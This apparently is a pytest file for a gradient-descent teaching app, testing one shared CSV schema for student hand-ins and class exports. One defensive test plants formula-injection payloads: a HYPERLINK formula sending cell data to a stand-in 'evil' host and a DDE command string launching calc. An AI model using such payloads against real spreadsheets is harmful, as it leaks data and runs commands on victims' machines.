"""One schema a teacher can merge: every hand-in and export has the same columns whatever the
rule, the lesson or the number of weights, a kind and a time on every row, and a column
holds one type of value in every file."""

import csv
import io
from datetime import datetime

import pytest
from gradstep.core.journal import ANSWER, GUESS, STEP, Journal, Words
from gradstep.core.courses import course, find_lesson
from gradstep.core.limits import MAX_OUTPUTS, MAX_WEIGHTS
from gradstep.core.questions import Attempt
from gradstep.core.schema import COLUMNS, KINDS, entry_rows, write_rows
from gradstep.core.history import History
from gradstep.core.numbers import readable
from gradstep.core.session import Session

from ..helpers import gradstep

START = 1796612645.0  # 2026-12-07T03:04:05Z


def words(session: Session, index: int) -> Words:
    """The question's words as the app puts them, figures filled in (lesson 6's ask names {input})."""
    from gradstep.tui.words.prose import question_words

    return question_words(session, index, "en")


def first_answer(session: Session, index: int):
    """Question `index` answered right at the first try."""
    question = session.lesson.questions[index]
    return Attempt(question, index).answer(question.answer if question.choices else float(question.answer))


def a_session(lesson_name: str, steps: int = 3) -> Journal:
    """A session of `lesson_name`: every question answered as it comes, a guess at each step."""
    journal = Journal(words)
    session = Session.begin(find_lesson(lesson_name))
    clock = START
    journal.see(session, clock)
    for _ in range(steps):
        while (index := session.pending_question()) is not None:
            session = session.answered(first_answer(session, index))
            clock += 0.25
            journal.see(session, clock)
        if not session.history.can_step:
            break
        session = session.guessed_step(None)
        clock += 0.25
        journal.see(session, clock)
    return journal


def read(journal: Journal) -> tuple[list[str], list[dict[str, str]]]:
    out = io.StringIO()
    write_rows(entry_rows(journal.entries, "ana", "s1"), out)
    reader = csv.DictReader(io.StringIO(out.getvalue()))
    return reader.fieldnames, list(reader)


@pytest.mark.parametrize("lesson", [lesson.name for lesson in course()])
def test_every_lesson_has_the_same_header_and_every_row_a_kind_and_a_utc_time(lesson):
    header, rows = read(a_session(lesson))
    assert tuple(header) == COLUMNS
    assert rows and {row["kind"] for row in rows} <= set(KINDS)
    for row in rows:
        assert row["time"].endswith("Z")
        assert datetime.fromisoformat(row["time"].replace("Z", "+00:00")).timestamp() >= START
        assert len(row) == len(COLUMNS) and None not in row


def test_the_columns_hold_both_rules_fields_and_a_column_per_weight_up_to_the_most():
    for name in ("alpha", "step_amount", "delta", "up_error", "down_error", "move", "kind", "time",
                 "question_text", "choice_text", "first"):
        assert name in COLUMNS
    assert [column for column in COLUMNS if column.startswith("weight_after_")] == \
           [f"weight_after_{k}" for k in range(1, MAX_WEIGHTS + 1)]


def test_a_teacher_reads_seventy_columns_not_three_hundred():
    """Before, the matrix lessons had a column per cell of a 9x9 matrix (weight_9_9) and per
    output (goal_9): 330 columns, most blank in every row."""
    assert len(COLUMNS) == 71 and len(set(COLUMNS)) == len(COLUMNS)
    assert not any(column.count("_") >= 2 and column.split("_")[-2].isdecimal() for column in COLUMNS)


def test_a_hot_and_cold_step_leaves_gradient_descents_fields_blank_and_the_reverse():
    _, hot = read(a_session("hot-cold"))
    _, gd = read(a_session("gradient-descent"))
    hot_step = next(row for row in hot if row["kind"] == STEP)
    gd_step = next(row for row in gd if row["kind"] == STEP)
    assert hot_step["move"] in ("up", "down", "none") and hot_step["delta"] == hot_step["alpha"] == ""
    assert gd_step["delta"] and gd_step["alpha"] and gd_step["move"] == gd_step["up_error"] == gd_step["step_amount"] == ""
    assert hot_step["weight_2"] == "" and gd_step["weight_2"] == ""


def test_numbers_and_words_never_share_a_column():
    """`answer`, `guess` and `truth` read as numbers in every file; a choice, and a direction,
    have columns of their own."""
    rows = [row for lesson in course() for row in read(a_session(lesson.name))[1]]
    for column in ("answer", "guess", "truth", "iteration", "error", "weight_1"):
        for row in rows:
            if row[column]:
                float(row[column])  # never text
    choices = [row for row in rows if row["choice"]]
    assert choices and all(row["answer"] == "" for row in choices)
    assert {row["choice_text"] for row in choices if row["lesson"] == "multi-weight"} == {"weight 1 (input 8.5)"}


def test_an_answer_row_holds_the_questions_own_words_beside_its_number():
    _, rows = read(a_session("alpha"))
    answers = [row for row in rows if row["kind"] == ANSWER]
    lesson = find_lesson("alpha")
    assert [row["question"] for row in answers] == [str(k) for k in range(1, len(lesson.questions) + 1)]
    assert all(row["question_text"] and "{" not in row["question_text"] for row in answers)
    assert all(row["first"] == "1" and row["answer_result"] == "right" for row in answers)


def test_a_guess_row_comes_just_before_its_step():
    _, rows = read(a_session("alpha", steps=2))
    kinds = [row["kind"] for row in rows if row["kind"] != ANSWER]
    assert kinds == [GUESS, STEP, GUESS, STEP]
    guesses = [row for row in rows if row["kind"] == GUESS]
    assert [row["guess_result"] for row in guesses] == ["skipped", "skipped"]
    assert [row["iteration"] for row in guesses] == ["0", "1"] and all(row["truth"] for row in guesses)


def test_class_csv_is_every_hand_in_in_one_schema_with_the_student_first(tmp_path):
    from gradstep.tui.files.hand_in import hand_in_rows
    from gradstep.tui.files.owner import Owner, login_name

    for user, lesson in (("ana", "hot-cold"), ("bo", "multi-weight"), ("cy", "measure-error")):
        journal = a_session(lesson)
        hand_in_rows(entry_rows(journal.entries, user, ""), tmp_path, Owner(user))
    (tmp_path / "notes.csv").write_text("a,b\n1,2\n")
    result = gradstep("class", str(tmp_path), "--csv")
    reader = csv.DictReader(io.StringIO(result.out))
    rows = list(reader)
    assert result.status == 0 and reader.fieldnames == ["student", "file", "record", "claimed_account", *COLUMNS[1:]]
    assert "user" not in reader.fieldnames  # one authority: the owner; the claim is named as one
    assert {(row["claimed_account"], row["lesson"]) for row in rows} == \
           {("ana", "hot-cold"), ("bo", "multi-weight"), ("cy", "measure-error")}
    assert {row["lesson"] for row in rows} == {"hot-cold", "multi-weight", "measure-error"}
    assert {row["student"] for row in rows} == {login_name()}  # the files' owner, not what they say
    assert {row["record"] for row in rows} == {""}  # each as the teacher's record first saw it
    assert "notes.csv: not a gradstep hand-in (columns)" in result.err


def test_two_sessions_of_one_student_are_told_apart_row_by_row(tmp_path):
    """Before, two runs of one student had the same blank session and no file column."""
    from gradstep.tui.files.hand_in import HandIn
    from gradstep.tui.files.owner import Owner

    ids = []
    for _ in range(2):
        owner = Owner("ana")
        ids.append(owner.id)
        journal = a_session("alpha", steps=2)
        HandIn(tmp_path, owner).finish(journal, Session.begin(find_lesson("alpha")), START)
    assert len(set(ids)) == 2 and all(len(one) == 16 and int(one, 16) >= 0 for one in ids)
    rows = list(csv.DictReader(io.StringIO(gradstep("class", str(tmp_path), "--csv").out)))
    by_session = {}
    for row in rows:
        by_session.setdefault((row["student"], row["session"]), set()).add(row["file"])
    assert sorted(session for _, session in by_session) == sorted(ids)
    assert all(len(files) == 1 and session in next(iter(files)) for (_, session), files in by_session.items())


def test_a_matrix_step_is_a_row_per_output_holding_its_row_of_the_matrix():
    _, rows = read(a_session("weight-matrix"))
    record = History.start(find_lesson("weight-matrix").problem).step().record(0)
    steps = [row for row in rows if row["kind"] == STEP and row["iteration"] == "0"]
    assert [row["output"] for row in steps] == ["1", "2", "3"]
    assert [row["goal"] for row in steps] == ["0.1", "1.0", "0.1"]
    for i, step in enumerate(steps):
        assert float(step["prediction"]) == record.prediction[i]
        assert float(step["output_error"]) == record.errors[i]
        assert float(step["delta"]) == record.delta[i]
        assert float(step["error"]) == record.error  # the sum over the outputs, on each of the step's rows
        for j in range(3):
            assert float(step[f"weight_{j + 1}"]) == record.weights[i][j]
            assert float(step[f"weight_delta_{j + 1}"]) == record.weight_delta[i][j]
            assert float(step[f"weight_after_{j + 1}"]) == record.weights_after[i][j]
        assert step["weight_4"] == "" and step["input_3"] and step["input_4"] == ""
    one = [row for row in read(a_session("alpha"))[1] if row["kind"] == STEP]
    assert one and all(row["output"] == "" for row in one)


def test_flags_are_one_or_zero_so_a_reader_takes_them_for_numbers():
    """Before, `first` was true/false beside blanks, which pandas reads as text (object)."""
    rows = [row for lesson in course() for row in read(a_session(lesson.name))[1]]
    assert {row["first"] for row in rows} == {"1", ""}
    journal = Journal(words)
    start = Session.begin(find_lesson("measure-error"))
    question = start.lesson.questions[0]
    wrong = Attempt(question, 0).answer(3.0)
    journal.see(start, START)
    journal.tried(start, wrong.last_try(), START + 1)
    journal.tried(start, wrong.answer(4.0), START + 2)
    assert [row["first"] for row in read(journal)[1]] == ["1", "0"]


def test_pandas_reads_first_as_a_number_and_one_dtype_per_column(tmp_path):
    pandas = pytest.importorskip("pandas")
    out = io.StringIO()
    journal = a_session("measure-error")
    write_rows(entry_rows(journal.entries, "ana", "0123456789abcdef"), out)
    frame = pandas.read_csv(io.StringIO(out.getvalue()))
    assert frame["first"].dtype.kind in "if" and frame["output"].dtype.kind in "if"


def test_gradstep_class_reads_the_final_error_of_a_matrix_hand_in(tmp_path):
    journal = a_session("weight-matrix", steps=2)
    path = tmp_path / "ana-weight-matrix.csv"
    with path.open("w", newline="") as out:
        write_rows(entry_rows(journal.entries, "ana", ""), out)
    from gradstep.tui.command.classroom import summary

    expected = History.start(find_lesson("weight-matrix").problem).jump(2).error
    line = summary("ana", list(csv.reader(path.open()))[1:], "en")
    assert line.cells[5:7] == ["2", readable(expected)]  # two steps (of three rows each), and the error after them


def test_a_questions_words_name_the_figures_where_it_was_asked():
    """As the app and line mode ask it: at iteration 2, {weight} is the weight then."""
    from dataclasses import replace

    from gradstep.core.questions import Answer, Question, QuestionText
    from gradstep.tui.words.prose import question_words

    asked = Question(at=2, answer=0.436, tolerance=0.001, texts={"en": QuestionText(ask="Where is {weight} going?")})
    session = Session.begin(replace(find_lesson("alpha"), questions=(asked,))).step().step()
    journal = Journal(lambda session, index: question_words(session, index, "en"))
    journal.see(session, START)
    journal.see(session.answered(Answer(0, 2, 0.436, "right", 1)), START)
    _, rows = read(journal)
    assert [row["question_text"] for row in rows] == ["Where is 0.436 going?"]


def test_class_csv_never_hands_a_spreadsheet_a_students_formula(tmp_path):
    """A hand-in a student wrote by hand, whose cells start formulas, reached the teacher's
    spreadsheet as formulas (=HYPERLINK to a site of theirs, @SUM...|cmd)."""
    from gradstep.tui.files.owner import login_name

    planted = {column: "" for column in COLUMNS} | {
        "kind": STEP, "lesson": '=HYPERLINK("http://evil/?"&A1,"click")', "session": "@SUM(1+1)*cmd|' /C calc'!A0",
        "iteration": "0", "weight_1": "-0.5", "error": "+1"}
    with open(tmp_path / "bo-x-alpha.csv", "w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerow(planted)
    result = gradstep("class", str(tmp_path), "--csv")
    [row] = list(csv.DictReader(io.StringIO(result.out)))
    assert row["lesson"].startswith("'=") and row["session"].startswith("'@")
    assert row["weight_1"] == "-0.5" and row["error"] == "+1" and row["student"] == login_name()  # numbers stay numbers


@pytest.mark.parametrize("typed, written", [(2.0, "2"), (-3.0, "-3"), (0.25, "0.25"), (1e16, "1e+16"), (0.1 + 0.2, "0.30000000000000004")])
def test_an_answer_is_written_as_typed_and_reads_back_exactly(typed, written):
    journal = Journal(words)
    start = Session.begin(find_lesson("measure-error"))
    journal.see(start, START)
    journal.tried(start, Attempt(start.lesson.questions[0], 0).answer(typed).last_try(), START + 1)
    answer = read(journal)[1][0]["answer"]
    assert answer == written and float(answer) == typed
    assert journal.progress(start, "ana", "", START, START, False)["answers"][0]["answer"] == written


def test_pandas_reads_the_whole_number_columns_as_the_docs_say(tmp_path):
    """Read plainly, `question` and `first` came out as floats (1.0, NaN); the dtype the
    teacher's guide gives keeps them whole, and every value in them is whole."""
    pandas = pytest.importorskip("pandas")
    from pathlib import Path

    from gradstep.core.schema import WHOLE_NUMBERS

    out = io.StringIO()
    write_rows(entry_rows(a_session("error-curve").entries, "ana", "0123456789abcdef"), out)
    frame = pandas.read_csv(io.StringIO(out.getvalue()), dtype=dict.fromkeys(WHOLE_NUMBERS, "Int64"))
    assert all(str(frame[column].dtype) == "Int64" for column in WHOLE_NUMBERS)
    assert frame["question"].dropna().tolist() == list(range(1, frame["question"].count() + 1))
    guide = (Path(__file__).parents[2] / "docs" / "teaching.md").read_text(encoding="utf-8")
    assert 'dtype=dict.fromkeys(["iteration", "output", "question", "attempt", "first"], "Int64")' in guide
    assert list(WHOLE_NUMBERS) == ["iteration", "output", "question", "attempt", "first"]
